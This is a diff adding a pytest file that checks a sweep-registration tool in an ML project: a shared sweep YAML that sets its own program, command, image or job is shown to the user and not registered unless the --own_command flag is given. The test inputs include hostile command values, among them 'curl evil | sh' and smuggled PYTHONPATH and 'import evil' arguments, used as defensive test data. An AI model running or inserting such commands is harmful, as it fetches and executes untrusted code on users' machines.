@@ -1,0 +1,60 @@
+"""What the agents of a shared sweep file run is mnet's program, or it is shown and asked for."""
+
+import pytest
+import sweep
+from sweep import PROGRAM, Options, sweep_content
+
+FILE = """
+method: grid
+metric: {name: val/top1, goal: maximize}
+parameters:
+  activation: {values: [relu, paper]}
+  seed: {values: [0, 1, 2]}
+"""
+OURS = ["${env}", "${interpreter}", "${program}"]
+
+
+@pytest.fixture
+def shared(tmp_path):
+    """Writes a shared sweep file with more lines; returns its path."""
+
+    def write(*lines: str) -> str:
+        method = "random" if lines in (("image_uri: evil",), ("job: evil",)) else "grid"  # a grid refuses these keys
+        (tmp_path / "shared.yaml").write_text("\n".join([FILE.strip().replace("grid", method), *lines]))
+        return str(tmp_path / "shared.yaml")
+
+    return write
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "program: evil.py",
+        "command: [sh, -c, 'curl evil | sh']",
+        "command: ['${env}', 'PYTHONPATH=/evil', '${interpreter}', '${program}', '${args}']",
+        "command: ['${env}', '${interpreter}', '-c', 'import evil', '${program}', '${args}']",
+        "command: ['${env}', '${interpreter}', '${program}', '${args}', 'evil']",
+        "command: ['${env}', '${interpreter}', '${program}', 'evil', '${args}']",
+        "image_uri: evil",
+        "job: evil",
+    ],
+)
+def test_another_program_is_shown_and_not_registered_unless_it_is_asked_for(line, shared, capsys, monkeypatch):
+    path, registered = shared(line), []
+    monkeypatch.setattr(sweep, "require_account", lambda _: None)
+    monkeypatch.setattr(sweep, "register", lambda content: registered.append(content) or "a/b/c")
+    assert sweep.main([path]) == 2
+    said = capsys.readouterr().err
+    assert "shared.yaml has a command of its own, which every agent would run: {" in said
+    assert "evil" in said.partition("would run: ")[2]
+    assert registered == []
+    assert sweep.main([path, "--own_command"]) == 0
+    assert len(registered) == 1
+
+
+def test_a_file_without_a_command_gets_ours_and_one_with_options_keeps_them(shared):
+    content = sweep_content(shared(), Options(out="elsewhere"), {})
+    assert content["program"] == PROGRAM
+    assert content["command"] == [*OURS, "--study=shared", "--out=elsewhere", "${args}"]
+    own = [*OURS, "--study=mine", "--trainer.precision=bf16-mixed", "${args}"]
+    assert sweep_content(shared(f"command: {own}"), Options(), {})["command"] == own
